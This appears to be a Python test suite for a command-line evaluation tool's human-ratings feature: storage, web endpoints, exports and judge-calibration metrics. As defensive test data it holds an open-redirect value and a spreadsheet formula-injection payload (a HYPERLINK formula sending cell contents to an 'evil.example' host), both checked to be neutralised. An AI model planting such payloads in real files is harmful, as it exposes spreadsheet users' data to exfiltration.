"""People's ratings (store/ratings.py, web/ratings.py, cli/ratings.py) and what they measure:
the store and its migration, the HTTP endpoints, the marks in show/view/exports, `ratings export`
read back by calibrate's loader, and `calibrate --ratings` against hand-computed figures."""

import json
import re
import sqlite3

import pytest
from conftest import write
from typer.testing import CliRunner

from factcli.cli import app
from factcli.errors import FactcliError
from factcli.store import ratings as R
from factcli.store.database import MIGRATION_NAMES, Store

runner = CliRunner()


def cli(*args, env=None):
    return runner.invoke(app, [*map(str, args)], env=env)


ECHO = """
description: ratings test
prompts: ["Say {{word}}", "Shout {{word}}"]
providers: [echo]
tests:
  - vars: {word: hello}
    assert: [{type: contains, value: hello}]
  - vars: {word: bye}
    assert: [{type: contains, value: hello}]
"""


@pytest.fixture
def echo_run(tmp_path):
    """A stored run of 2 tests x 2 columns (test 0 passes, test 1 fails); -> (db path, run id)."""
    db = tmp_path / "r.db"
    result = cli("eval", "--no-progress-bar", "--no-table", "-c", write(tmp_path / "c.yaml", ECHO), "--db", db)
    assert result.exit_code == 100, result.output
    with Store.open(db) as store:
        return db, store.resolve(None)["id"]


# ---------------------------------------------------------------- the store


def test_add_list_retract(echo_run):
    db, run = echo_run
    with Store.open(db) as store:
        before = [dict(r) for r in store.conn.execute("SELECT * FROM results ORDER BY id")]
        a = R.add_rating(store, run, test_idx=1, prompt_idx=0, passed=True, comment=" fine by me ", rater="ann")
        b = R.add_rating(store, run, test_idx=1, prompt_idx=0, passed=False, rater="bob")
        c = R.add_rating(store, run, test_idx=1, prompt_idx=0, assertion_idx=0, passed=True)
        rows = R.ratings_for_row(store, run, 1, 0)
        assert [r["id"] for r in rows] == [c, b, a]  # newest first
        assert rows[2] | {"createdAt": None} == {
            "id": a, "runId": run, "testIdx": 1, "promptIdx": 0, "repeatIdx": 0, "assertionIdx": None,
            "passed": True, "comment": "fine by me", "rater": "ann", "createdAt": None, "retractedAt": None}
        assert R.rated_rows(store, run) == {(1, 0, 0): False}  # the latest row-level verdict
        assert R.retract_rating(store, b) is True
        assert R.retract_rating(store, b) is False  # already taken back
        assert R.retract_rating(store, 999) is False
        assert R.rated_rows(store, run) == {(1, 0, 0): True}
        assert [r["id"] for r in R.ratings_for_run(store, run)] == [a, c]  # in force only
        retracted = next(r for r in R.ratings_for_row(store, run, 1, 0) if r["id"] == b)
        assert retracted["retractedAt"] is not None  # kept, marked
        # the stored grading never changes
        assert [dict(r) for r in store.conn.execute("SELECT * FROM results ORDER BY id")] == before
        agreement = R.judge_agreement(store, run)  # contains is not model-graded: nothing to compare
        assert (agreement["agree"], agreement["rated"], agreement["disagreements"]) == (0, 0, [])


@pytest.mark.parametrize("where, needle", [
    ({"run_id": "nope"}, "no run 'nope'"),
    ({"test_idx": 7}, "has no row test 7"),
    ({"prompt_idx": 2}, "column 2"),
    ({"repeat_idx": 1}, "repeat 1"),
    ({"assertion_idx": 1}, "has no assertion 1"),
])
def test_unknown_run_row_or_assertion(echo_run, where, needle):
    db, run = echo_run
    args = {"run_id": run, "test_idx": 0, "prompt_idx": 0, **where}
    with Store.open(db) as store:
        with pytest.raises(FactcliError, match=needle):
            R.add_rating(store, args.pop("run_id"), passed=True, **args)
        assert store.conn.execute("SELECT COUNT(*) FROM ratings").fetchone()[0] == 0


def test_an_existing_database_upgrades_in_place(echo_run):
    db, run = echo_run
    # make it a database written before ratings existed (m001 only)
    with sqlite3.connect(db) as conn:
        conn.execute("DROP TABLE ratings")
        conn.execute("ALTER TABLE runs DROP COLUMN gates_json")
        conn.execute("DROP TABLE batch_lines")
        conn.execute("DROP TABLE batches")
        conn.execute("DELETE FROM _sqlite_migrations WHERE name IN ('m002_ratings', 'm003_run_gates', 'm004_batches')")
        results = conn.execute("SELECT COUNT(*) FROM results").fetchone()[0]
    result = cli("list", "--db", db)  # a read command upgrades it
    assert result.exit_code == 0 and run in result.output, result.output
    with Store.open(db) as store:
        applied = [r[0] for r in store.conn.execute("SELECT name FROM _sqlite_migrations ORDER BY id")]
        assert tuple(applied) == MIGRATION_NAMES and MIGRATION_NAMES[1:] == ("m002_ratings", "m003_run_gates",
                                                                                  "m004_batches")
        assert store.conn.execute("SELECT COUNT(*) FROM results").fetchone()[0] == results
        assert R.add_rating(store, run, test_idx=0, prompt_idx=1, passed=True) == 1


def test_deleting_a_run_deletes_its_ratings(echo_run):
    db, run = echo_run
    with Store.open(db) as store:
        R.add_rating(store, run, test_idx=0, prompt_idx=0, passed=True)
        store.delete_run(run)
        assert store.conn.execute("SELECT COUNT(*) FROM ratings").fetchone()[0] == 0


# ---------------------------------------------------------------- the HTTP endpoints


@pytest.fixture
def client(echo_run):
    from starlette.testclient import TestClient

    from factcli.web.app import create_app

    db, run = echo_run
    with TestClient(create_app(db, token="s3cret"), follow_redirects=False) as c:
        c.run_id, c.db = run, db
        yield c


def _count(db) -> int:
    with Store.open(db) as store:
        return store.conn.execute("SELECT COUNT(*) FROM ratings").fetchone()[0]


@pytest.mark.parametrize("how", ["none", "wrong-field", "wrong-header", "empty"])
def test_a_rating_without_the_token_is_refused(client, how):
    body = {"test_idx": 0, "prompt_idx": 0, "verdict": "pass"}
    headers = {}
    if how == "wrong-field":
        body["token"] = "guess"
    elif how == "wrong-header":
        headers["X-Factcli-Token"] = "guess"
    elif how == "empty":
        body["token"] = ""
    r = client.post(f"/api/runs/{client.run_id}/ratings", json=body, headers=headers)
    assert r.status_code == 403 and "token" in r.json()["error"]
    r = client.post(f"/api/runs/{client.run_id}/ratings", data={k: str(v) for k, v in body.items()}, headers=headers)
    assert r.status_code == 403 and "Traceback" not in r.text and "<h1>Forbidden</h1>" in r.text
    assert _count(client.db) == 0
    rid = _add_direct(client)
    assert client.post(f"/api/ratings/{rid}/retract", json={k: v for k, v in body.items() if k == "token"},
                       headers=headers).status_code == 403
    with Store.open(client.db) as store:
        assert R.get_rating(store, rid)["retractedAt"] is None


def _add_direct(client) -> int:
    with Store.open(client.db) as store:
        return R.add_rating(store, client.run_id, test_idx=0, prompt_idx=0, passed=True)


def test_json_flow(client):
    run = client.run_id
    r = client.post(f"/api/runs/{run}/ratings", json={
        "test_idx": 1, "prompt_idx": 1, "assertion_idx": 0, "verdict": "pass", "comment": "<b>ok</b>",
        "rater": "ann", "token": "s3cret"})
    assert r.status_code == 201, r.text
    got = r.json()
    assert got["id"] == 1 and got["passed"] is True and got["assertionIdx"] == 0 and got["comment"] == "<b>ok</b>"
    assert (got["testIdx"], got["promptIdx"], got["repeatIdx"], got["rater"]) == (1, 1, 0, "ann")
    r = client.post(f"/api/runs/{run}/ratings", json={"test_idx": "1", "prompt_idx": 1, "verdict": "FAIL"},
                    headers={"X-Factcli-Token": "s3cret"})
    assert r.status_code == 201 and r.json()["passed"] is False and r.json()["assertionIdx"] is None
    r = client.post("/api/ratings/2/retract", json={"token": "s3cret"})
    assert r.status_code == 200 and r.json()["retracted"] is True
    with Store.open(client.db) as store:
        assert [x["id"] for x in R.ratings_for_run(store, run)] == [1]


def test_form_flow_redirects_to_next(client):
    run = client.run_id
    nxt = f"/runs/{run}/cell/1/0/0"
    r = client.post(f"/api/runs/{run}/ratings", data={
        "test_idx": "1", "prompt_idx": "0", "repeat_idx": "0", "assertion_idx": "", "verdict": "fail",
        "comment": "wrong", "rater": "bob", "token": "s3cret", "next": nxt})
    assert r.status_code == 303 and r.headers["location"] == nxt
    # `next` only ever points at this server
    r = client.post(f"/api/runs/{run}/ratings", data={"test_idx": "1", "prompt_idx": "0", "verdict": "pass",
                                                      "token": "s3cret", "next": "//evil.example/x"})
    assert r.status_code == 303 and r.headers["location"] == nxt
    r = client.post("/api/ratings/1/retract", data={"token": "s3cret", "next": nxt + "#ratings"})
    assert r.status_code == 303 and r.headers["location"] == nxt + "#ratings"
    with Store.open(client.db) as store:
        rows = R.ratings_for_row(store, run, 1, 0)
        assert [(x["id"], x["passed"], x["retractedAt"] is None) for x in rows] == [(2, True, True), (1, False, False)]
        assert rows[1]["comment"] == "wrong" and rows[1]["rater"] == "bob"


@pytest.mark.parametrize("path, body, status, needle", [
    ("/api/runs/nope/ratings", {"test_idx": 0, "prompt_idx": 0, "verdict": "pass"}, 404, "no run 'nope'"),
    ("/api/runs/{run}/ratings", {"test_idx": 5, "prompt_idx": 0, "verdict": "pass"}, 404, "no row test 5"),
    ("/api/runs/{run}/ratings", {"test_idx": 0, "prompt_idx": 0, "assertion_idx": 3, "verdict": "pass"}, 404,
     "no assertion 3"),
    ("/api/ratings/99/retract", {}, 404, "no rating 99"),
    ("/api/ratings/abc/retract", {}, 404, "no rating 'abc'"),
    ("/api/runs/{run}/ratings", {"test_idx": 0, "prompt_idx": 0, "verdict": "maybe"}, 400, "verdict"),
    ("/api/runs/{run}/ratings", {"test_idx": -1, "prompt_idx": 0, "verdict": "pass"}, 400, "test_idx"),
    ("/api/runs/{run}/ratings", {"prompt_idx": 0, "verdict": "pass"}, 400, "test_idx is missing"),
    ("/api/runs/{run}/ratings", {"test_idx": "x", "prompt_idx": 0, "verdict": "pass"}, 400, "whole number"),
])
def test_bad_requests(client, path, body, status, needle):
    path = path.format(run=client.run_id)
    r = client.post(path, json={**body, "token": "s3cret"})
    assert r.status_code == status and needle in r.json()["error"], r.text
    r = client.post(path, data={**{k: str(v) for k, v in body.items()}, "token": "s3cret"})
    assert r.status_code == status and needle in html_unescape(r.text) and "Traceback" not in r.text
    assert _count(client.db) == 0


def html_unescape(text: str) -> str:
    import html

    return html.unescape(text)


def test_bad_bodies(client):
    run = client.run_id
    assert client.post(f"/api/runs/{run}/ratings", content=b"{nope", headers={
        "content-type": "application/json", "X-Factcli-Token": "s3cret"}).status_code == 400
    assert client.post(f"/api/runs/{run}/ratings", content=b"[1]", headers={
        "content-type": "application/json", "X-Factcli-Token": "s3cret"}).status_code == 400
    assert client.get(f"/api/runs/{run}/ratings").status_code == 405


# ---------------------------------------------------------------- the judge against the people

RUBRIC = """
prompts: ["Answer {{tag}}"]
providers: [echo]
defaultTest:
  options:
    provider: {id: "openai:chat:judge", config: {apiBaseUrl: "{{ env.FAKE_OPENAI_URL }}"}}
tests:
  - vars: {tag: "[J-yes] zero", reference: "zero"}
    assert: [{type: llm-rubric, value: is fine%(cal)s}]
  - vars: {tag: "[J-yes] one"}
    assert: [{type: llm-rubric, value: is fine%(cal)s}, {type: llm-rubric, value: "says [J-no]"%(cal)s}]
  - vars: {tag: "[J-yes] two"}
    assert: [{type: llm-rubric, value: is fine%(cal)s}, {type: contains, value: two}]
  - vars: {tag: "[J-no] three"}
    assert: [{type: llm-rubric, value: is fine%(cal)s}]
  - vars: {tag: "[J-no] four"}
    assert: [{type: llm-rubric, value: is fine%(cal)s}]
  - vars: {tag: "[J-no] five"}
    assert: [{type: llm-rubric, value: is fine%(cal)s}]
  - vars: {tag: "[J-bad] six"}
    assert: [{type: llm-rubric, value: is fine%(cal)s}]
"""


@pytest.fixture
def rated(fake_openai, tmp_path, monkeypatch, db_target):
    """A run whose judge passes [J-yes] outputs, fails [J-no] ones (or rubrics) and cannot answer
    [J-bad]; rated by ann and bob, in a SQLite file and then in PostgreSQL. -> (db, run id)."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    fake_openai.add_rule(r"\[J-bad\]", "I cannot decide.")
    fake_openai.add_rule(r"\[J-no\]", '{"pass": false, "score": 0, "reason": "no"}')
    fake_openai.add_rule(".", '{"pass": true, "score": 1, "reason": "yes"}')
    db = db_target
    result = cli("eval", "--no-progress-bar", "--no-table", "-c", write(tmp_path / "c.yaml", RUBRIC % {"cal": ""}),
                 "--db", db)
    assert result.exit_code == 100, result.output
    with Store.open(db) as store:
        run = store.resolve(None)["id"]

        def rate(t, passed, **kw):
            return R.add_rating(store, run, test_idx=t, prompt_idx=0, passed=passed, **kw)

        rate(0, True, rater="ann")                    # judge pass, ann pass: TP
        rate(1, True, rater="ann")                    # row: a0 judge pass -> TP (a1 rated on its own)
        rate(1, False, rater="ann", assertion_idx=1)  # a1 judge fail, ann fail: TN
        rate(2, False, rater="ann")                   # judge pass, ann fail: FP
        rate(2, True, rater="ann", assertion_idx=1)   # a contains assertion: not model-graded, not counted
        rate(3, False, rater="ann")                   # TN
        rate(4, True, rater="ann")                    # judge fail, ann pass: FN
        rate(5, True, rater="ann")
        rate(5, False, rater="ann")                   # ann changed her mind: the latest (fail) counts: TN
        rate(6, True, rater="ann")                    # the judge's reply was unreadable: a grading error
        rate(0, False, rater="bob")                   # FP
        rate(3, False, rater="bob")                   # TN
        R.retract_rating(store, rate(4, True, rater="bob"))  # taken back: not counted
    return db, run


def test_calibrate_ratings_by_hand(rated, tmp_path):
    db, run = rated
    out = tmp_path / "report.json"
    result = cli("calibrate", "--ratings", run, "--db", db, "-o", out, env={"COLUMNS": "160"})
    assert result.exit_code == 0, result.output
    rep = json.loads(out.read_text())
    assert rep["factcli"]["runId"] == run and rep["factcli"]["source"] == "ratings"
    # ann: TP 2 (t0, t1 a0), FN 1 (t4), FP 1 (t2), TN 3 (t1 a1, t3, t5); bob: FP 1 (t0), TN 1 (t3)
    assert rep["items"] == 9 and rep["gold"] == {"positive": 3, "negative": 6, "positiveRate": pytest.approx(1 / 3)}
    (g,) = rep["graders"]
    assert g["label"] == "llm-rubric · openai:chat:judge" and g["grader"] == "openai:chat:judge"
    assert g["assertion"] == {"type": "llm-rubric", "provider": "openai:chat:judge"}
    assert g["confusion"] == {"tp": 2, "fn": 1, "fp": 2, "tn": 4} and g["n"] == 9
    assert g["f1Positive"] == pytest.approx(4 / 7)      # 2·2 / (2·2 + 2 + 1)
    assert g["f1Negative"] == pytest.approx(8 / 11)     # 2·4 / (2·4 + 1 + 2)
    assert g["macroF1"] == pytest.approx(50 / 77)
    assert g["accuracy"] == pytest.approx(6 / 9)
    assert (g["fpr"], g["fnr"]) == (pytest.approx(2 / 6), pytest.approx(1 / 3))
    assert g["kappa"] == pytest.approx(4 / 13)          # p_o 2/3, p_e (4·3 + 5·6)/81 = 14/27
    assert g["gradingErrors"] == 1 and g["errors"][0]["id"] == "test 6 column 0 assert 0"
    ann, bob = g["raters"]
    assert ann["rater"] == "ann" and ann["confusion"] == {"tp": 2, "fn": 1, "fp": 1, "tn": 3}
    assert ann["kappa"] == pytest.approx(5 / 12)        # p_o 5/7, p_e (3·3 + 4·4)/49 = 25/49
    assert (ann["fpr"], ann["fnr"], ann["macroF1"]) == (0.25, pytest.approx(1 / 3), pytest.approx((2 / 3 + 3 / 4) / 2))
    assert bob["confusion"] == {"tp": 0, "fn": 0, "fp": 1, "tn": 1}
    assert (bob["fpr"], bob["fnr"], bob["kappa"]) == (0.5, None, 0.0)
    assert [(d["id"], d["rater"]) for d in g["disagreements"]] == [
        ("test 0 column 0 assert 0", "bob"), ("test 2 column 0 assert 0", "ann"), ("test 4 column 0 assert 0", "ann")]
    text = result.output
    assert "Calibration on the ratings of run" in text and "rater ann" in text and "rater bob" in text
    figures = r"9\s+64\.94\s+66\.67\s+33\.33\s+33\.33\s+57\.14\s+72\.73\s+0\.308"
    assert re.search(r"llm-rubric · openai:chat:judge\s+" + figures, text)
    # the run page's line: rows where every pair agrees (t1, t3, t5) of the rows with a pair (t0-t5)
    with Store.open(db) as store:
        agreement = R.judge_agreement(store, run)
    assert (agreement["agree"], agreement["rated"]) == (3, 6)
    assert agreement["rates"]["confusion"] == g["confusion"]
    assert [(d["testIdx"], d["rater"], d["judge"], d["people"]) for d in agreement["disagreements"]] == [
        (0, "bob", True, False), (2, "ann", True, False), (4, "ann", False, True)]


def test_the_report_is_a_calibration_for_judge_corrected_rates(rated, fake_openai, tmp_path):
    """A `calibrate --ratings` report loads as an assertion's config.calibration, and calibrate made no call."""
    db, run = rated
    calls = len(fake_openai.requests)
    assert cli("calibrate", "--ratings", run, "--db", db, "-o", tmp_path / "report.json").exit_code == 0
    assert len(fake_openai.requests) == calls  # the judge's verdicts were read from the store
    cfg = write(tmp_path / "c2.yaml", RUBRIC % {"cal": ", config: {calibration: file://report.json}"})
    out = tmp_path / "r.json"
    result = cli("eval", "-c", cfg, "--db", db, "-o", out, "--no-progress-bar", "--no-table")
    assert result.exit_code == 100, result.output
    assert "was measured with another judge" not in result.output  # same type, same grader
    (entry,) = json.loads(out.read_text())["factcli"]["columns"][0]["judgeCorrected"]
    assert entry["assertion"] == "llm-rubric" and entry["calibrationN"] == {"pass": 3, "fail": 6}
    assert entry["sensitivity"] == pytest.approx(2 / 3) and entry["specificity"] == pytest.approx(4 / 6)


def test_calibrate_ratings_errors(rated, echo_run, tmp_path):
    db, run = rated
    r = cli("calibrate", "--ratings", run, "--db", db, "--assert", "llm-rubric")
    assert r.exit_code == 1 and "--ratings reads a stored run's ratings; it does not take --assert" in r.output
    r = cli("calibrate", "--ratings", run, "--db", db, "-o", tmp_path / "x.csv")
    assert r.exit_code == 1 and "use a .json file" in r.output
    r = cli("calibrate", "--ratings", "nope", "--db", db)
    assert r.exit_code == 1 and "no run 'nope'" in r.output and "Traceback" not in r.output
    edb, erun = echo_run  # rated, but only contains assertions
    with Store.open(edb) as store:
        R.add_rating(store, erun, test_idx=0, prompt_idx=0, passed=True)
    r = cli("calibrate", "--ratings", erun, "--db", edb)
    assert r.exit_code == 1 and "has no rating of a model-graded assertion" in r.output


# ---------------------------------------------------------------- ratings export / list


@pytest.mark.parametrize("suffix", [".jsonl", ".csv"])
def test_ratings_export_reads_back_as_labels(rated, tmp_path, suffix):
    from factcli.config.labels import load_items

    db, run = rated
    out = tmp_path / f"labels{suffix}"
    r = cli("ratings", "export", run, "--db", db, "-o", out)
    assert r.exit_code == 0 and "Wrote 7 labeled items" in r.output, r.output
    items = load_items(out)
    # the latest row-level rating in force per row: t0 bob's fail (after ann's pass), t5 ann's fail
    assert [(it.id, it.gold) for it in items] == [
        ("test0-col0", False), ("test1-col0", True), ("test2-col0", False), ("test3-col0", False),
        ("test4-col0", True), ("test5-col0", False), ("test6-col0", True)]
    first = items[0]
    assert first.question == "Answer [J-yes] zero" and first.output == "Answer [J-yes] zero"
    assert first.reference == "zero" and first.extra == {"tag": "[J-yes] zero"}
    # calibrate takes the file as it is (a deterministic check as the grader: no call)
    cfg = write(tmp_path / "g.yaml", "graders:\n  - {type: contains, value: '[J-yes]'}\n")
    r = cli("calibrate", out, "-c", cfg, "--no-write", "--no-progress-bar", "-o", tmp_path / "m.json")
    assert r.exit_code == 0, r.output
    # contains passes t0-t2; people passed t1, t4, t6: TP 1 (t1), FP 2 (t0, t2), FN 2 (t4, t6), TN 2 (t3, t5)
    g = json.loads((tmp_path / "m.json").read_text())["graders"][0]
    assert g["confusion"] == {"tp": 1, "fn": 2, "fp": 2, "tn": 2}


def test_ratings_export_and_list_errors(echo_run, tmp_path):
    db, run = echo_run
    r = cli("ratings", "export", run, "--db", db, "-o", tmp_path / "l.jsonl")
    assert r.exit_code == 1 and "no row-level rating to export" in r.output
    assert "No ratings of run" in cli("ratings", "list", run, "--db", db).output
    with Store.open(db) as store:
        rid = R.add_rating(store, run, test_idx=1, prompt_idx=1, passed=False, rater="ann", comment="too short")
        R.add_rating(store, run, test_idx=0, prompt_idx=0, passed=True)
        R.retract_rating(store, rid)
    r = cli("ratings", "export", run, "--db", db, "-o", tmp_path / "l.txt")
    assert r.exit_code == 1 and "writes .jsonl or .csv" in r.output
    listed = cli("ratings", "list", run, "--db", db).output
    assert "test 0 column 0  PASS" in listed and "ann" not in listed
    listed = cli("ratings", "list", run, "--db", db, "--retracted").output
    assert "test 1 column 1  FAIL by ann: too short" in listed and "retracted" in listed


# ---------------------------------------------------------------- beside the stored grading


def test_show_view_and_exports_carry_the_ratings(echo_run, tmp_path):
    db, run = echo_run
    with Store.open(db) as store:
        R.add_rating(store, run, test_idx=1, prompt_idx=0, passed=True, rater="ann", comment="<b>fine</b>")
        gone = R.add_rating(store, run, test_idx=1, prompt_idx=0, passed=False, rater="bob")
        R.retract_rating(store, gone)
        R.add_rating(store, run, test_idx=0, prompt_idx=1, passed=False)
    shown = cli("show", run, "1", "--db", db, env={"COLUMNS": "120"}).output
    assert "Ratings:" in shown and "pass by ann: <b>fine</b>" in shown and "fail by bob" in shown
    assert "retracted" in shown
    rows = json.loads(cli("show", run, "1", "--db", db, "--json").output)
    assert [(x["rater"], x["retractedAt"] is None) for x in rows[0]["ratings"]] == [("bob", False), ("ann", True)]
    assert rows[1]["ratings"] == []
    view = cli("view", run, "--db", db, env={"COLUMNS": "80"}).output
    assert "✓rated" in view and "✗rated" in view
    marked = [line for line in view.splitlines() if "rated" in line or line.startswith(" # |")]
    assert len(marked) == 3 and {len(line) for line in marked} == {80}, view  # the grid keeps its 80 columns
    page = json.loads(cli("view", run, "--db", db, "--json").output)
    cells = {(t["testIdx"], c["promptIdx"]): c["rated"] for t in page["tests"] for c in t["cells"]}
    assert cells == {(0, 0): None, (0, 1): False, (1, 0): True, (1, 1): None}
    # factcli export: results JSON (factcli.ratings, in force), JSONL, CSV (a Ratings column), HTML (escaped)
    out = tmp_path / "x.json"
    assert cli("export", run, "--db", db, "-o", out).exit_code == 0
    results = json.loads(out.read_text())["results"]["results"]
    by_row = {(x["testIdx"], x["promptIdx"]): x["factcli"].get("ratings") for x in results}
    assert [(x["rater"], x["passed"], x["comment"]) for x in by_row[(1, 0)]] == [("ann", True, "<b>fine</b>")]
    assert by_row[(0, 0)] is None and by_row[(0, 1)][0]["passed"] is False and "runId" not in by_row[(0, 1)][0]
    assert cli("export", run, "--db", db, "-o", tmp_path / "x.jsonl").exit_code == 0
    lines = [json.loads(x) for x in (tmp_path / "x.jsonl").read_text().splitlines()]
    assert sum(len(x["factcli"].get("ratings", [])) for x in lines) == 2
    assert cli("export", run, "--db", db, "-o", tmp_path / "x.csv").exit_code == 0
    import csv

    table = list(csv.reader((tmp_path / "x.csv").open(encoding="utf-8")))
    assert table[0].count("Ratings") == 2
    assert table[2][table[0].index("Ratings")] == "pass by ann: <b>fine</b>"
    assert cli("export", run, "--db", db, "-o", tmp_path / "x.html").exit_code == 0
    page_html = (tmp_path / "x.html").read_text()
    assert '<div class="ratings">rated: pass by ann: &lt;b&gt;fine&lt;/b&gt;</div>' in page_html
    assert "<b>fine</b>" not in page_html


def test_an_eval_writes_no_ratings_key(tmp_path):
    out = tmp_path / "r.json"
    cli("eval", "--no-progress-bar", "--no-table", "-c", write(tmp_path / "c.yaml", ECHO), "-o", out, "--no-write")
    assert all("ratings" not in x["factcli"] for x in json.loads(out.read_text())["results"]["results"])
    # promptfoo's CSV layout is unchanged for a run without ratings
    cli("eval", "--no-progress-bar", "--no-table", "-c", tmp_path / "c.yaml", "-o", tmp_path / "r.csv", "--no-write")
    assert "Ratings" not in (tmp_path / "r.csv").read_text().splitlines()[0]


def test_ratings_export_neutralises_formulas_and_calibrate_reads_them_back(tmp_path):
    """A rated output `=HYPERLINK(…)` was a live formula in `ratings export`'s CSV (issue 48): it is
    written as text (a leading '), and calibrate's loader reads the value as it was; numbers stay."""
    import csv
    import io

    from factcli.config.labels import load_items

    formula, plus, number = '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-0.5"
    cfg = write(tmp_path / "c.yaml", "prompts: ['{{w}}']\nproviders: [echo]\ntests:\n"
                + "".join(f"  - vars: {{w: {json.dumps(w)}}}\n" for w in (formula, plus, number, "'=kept as written")))
    db = tmp_path / "r.db"
    assert cli("eval", "--no-progress-bar", "--no-table", "-c", cfg, "--db", db).exit_code == 0
    with Store.open(db) as store:
        run = store.resolve(None)["id"]
        for t in range(4):
            R.add_rating(store, run, test_idx=t, prompt_idx=0, passed=t % 2 == 0, rater="ann")
    out = tmp_path / "labels.csv"
    assert cli("ratings", "export", run, "--db", db, "-o", out).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert [r["output"] for r in rows] == ["'" + formula, "'" + plus, number, "''=kept as written"]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    items = load_items(out)
    assert [it.output for it in items] == [formula, plus, number, "'=kept as written"]  # exactly as rated
    assert [it.gold for it in items] == [True, False, True, False]
